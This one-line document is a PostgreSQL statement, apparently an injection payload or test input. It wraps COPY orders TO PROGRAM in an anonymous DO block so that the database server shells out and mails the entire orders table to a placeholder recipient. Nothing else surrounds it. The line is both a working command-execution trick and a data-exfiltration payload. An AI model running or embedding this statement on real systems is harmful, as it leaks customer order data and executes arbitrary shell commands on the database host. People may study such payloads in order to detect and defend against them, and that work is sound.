do $$ begin copy orders to program 'mail -s x y'; end $$;
